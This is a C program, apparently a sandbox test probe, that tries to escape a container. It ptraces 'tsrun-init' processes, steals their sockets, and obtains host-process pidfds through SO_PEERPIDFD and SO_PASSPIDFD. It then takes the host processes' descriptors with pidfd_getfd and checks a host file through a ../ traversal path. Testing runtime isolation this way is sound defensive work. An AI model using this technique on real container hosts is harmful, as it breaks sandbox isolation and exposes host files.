// peer PATH SECONDS: takes every socket out of each tsrun-init in this pid namespace (CAP_SYS_PTRACE), asks the kernel for a pidfd of the process that is or sends at the
// other end (SO_PEERPIDFD, SO_PASSPIDFD of Linux 6.5), and looks for the file PATH of the host through the descriptors of that process. Says what it got.
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef SO_PASSPIDFD
#define SO_PASSPIDFD 76
#define SO_PEERPIDFD 77
#endif
#define SCM_PIDFD_TYPE 4

enum { HIGHEST = 32 };
static const char* wanted;
static int sockets, found;

static int get(int pidfd, int number) { return syscall(438 /* pidfd_getfd */, pidfd, number, 0); }

// The processes of this pid namespace have numbers in it; those of the host have none.
static int is_of_host(int pidfd) {
  char path[64], line[256];
  int pid = -1;
  snprintf(path, sizeof path, "/proc/self/fdinfo/%d", pidfd);
  FILE* file = fopen(path, "re");
  while (file != NULL && fgets(line, sizeof line, file) != NULL && sscanf(line, "Pid: %d", &pid) != 1) {
  }
  if (file != NULL) fclose(file);
  return pid <= 0;
}

static void look_through(int peer, const char* way) {
  if (!is_of_host(peer)) {
    close(peer);
    return;
  }
  for (int number = 0; number < HIGHEST; number++) {
    const int fd = get(peer, number);
    struct stat status;
    if (fd < 0) continue;
    // The other end itself leads nowhere else.
    if (fstat(fd, &status) == 0 && S_ISSOCK(status.st_mode)) {
      close(fd);
      continue;
    }
    found++;
    char path[4096];
    snprintf(path, sizeof path, "../../../../../../../../..%s", wanted);
    printf("took descriptor %d by %s: %s\n", number, way, faccessat(fd, path, F_OK, 0) == 0 ? "the file" : "not the file");
    close(fd);
  }
  close(peer);
}

static void ask(int socket) {
  int peer = -1;
  socklen_t size = sizeof peer;
  if (getsockopt(socket, SOL_SOCKET, SO_PEERPIDFD, &peer, &size) == 0) look_through(peer, "SO_PEERPIDFD");
}

static void hear(int socket) {
  const int on = 1;
  char byte;
  struct iovec part = {&byte, 1};
  union {
    struct cmsghdr header;
    char bytes[512];
  } control;
  struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  setsockopt(socket, SOL_SOCKET, SO_PASSPIDFD, &on, sizeof on);
  for (int i = 0; i < 20; i++, usleep(1000)) {
    if (recvmsg(socket, &message, MSG_DONTWAIT) < 0) continue;
    for (struct cmsghdr* c = CMSG_FIRSTHDR(&message); c != NULL; c = CMSG_NXTHDR(&message, c))
      if (c->cmsg_level == SOL_SOCKET && c->cmsg_type == SCM_PIDFD_TYPE) look_through(*(int*)CMSG_DATA(c), "SO_PASSPIDFD");
    return;
  }
}

// Accepts connections to a waiting container before tsrun-init can do so.
static void meet(int listener) {
  struct pollfd waits = {listener, POLLIN, 0};
  for (int i = 0; i < 20 && poll(&waits, 1, 200) > 0; i++) {
    const int connection = accept4(listener, NULL, NULL, SOCK_NONBLOCK);
    if (connection < 0) return;
    sockets++;
    ask(connection);
    hear(connection);
    close(connection);
  }
}

static int is_init(int pid) {
  char path[64], text[64] = {0};
  snprintf(path, sizeof path, "/proc/%d/cmdline", pid);
  const int file = open(path, O_RDONLY);
  if (file < 0) return 0;
  const ssize_t count = read(file, text, sizeof text - 1);
  close(file);
  return count > 0 && strcmp(text, "tsrun-init") == 0;
}

static void attack(int pid) {
  if (!is_init(pid) || ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
  ptrace(PTRACE_INTERRUPT, pid, 0, 0);
  const int pidfd = syscall(SYS_pidfd_open, pid, 0);
  for (int number = 0; number < HIGHEST; number++) {
    const int socket = get(pidfd, number);
    int type, listens = 0;
    socklen_t size = sizeof type;
    if (socket >= 0 && getsockopt(socket, SOL_SOCKET, SO_TYPE, &type, &size) == 0) {
      sockets++;
      getsockopt(socket, SOL_SOCKET, SO_ACCEPTCONN, &listens, &size);
      ask(socket);
      if (listens)
        meet(socket);
      else
        hear(socket);
    }
    if (socket >= 0) close(socket);
  }
  close(pidfd);
  waitpid(pid, NULL, __WALL);
  ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char** argv) {
  if (argc != 3) return 64;
  wanted = argv[1];
  const time_t end = time(NULL) + atoi(argv[2]);
  setvbuf(stdout, NULL, _IOLBF, 0);
  printf("ready\n");
  while (time(NULL) < end) {
    DIR* proc = opendir("/proc");
    for (struct dirent* entry; (entry = readdir(proc)) != NULL;) {
      const int pid = atoi(entry->d_name);
      if (pid > 0 && pid != getpid()) attack(pid);
    }
    closedir(proc);
  }
  printf("met %d sockets, took %d descriptors\n", sockets, found);
  return 0;
}
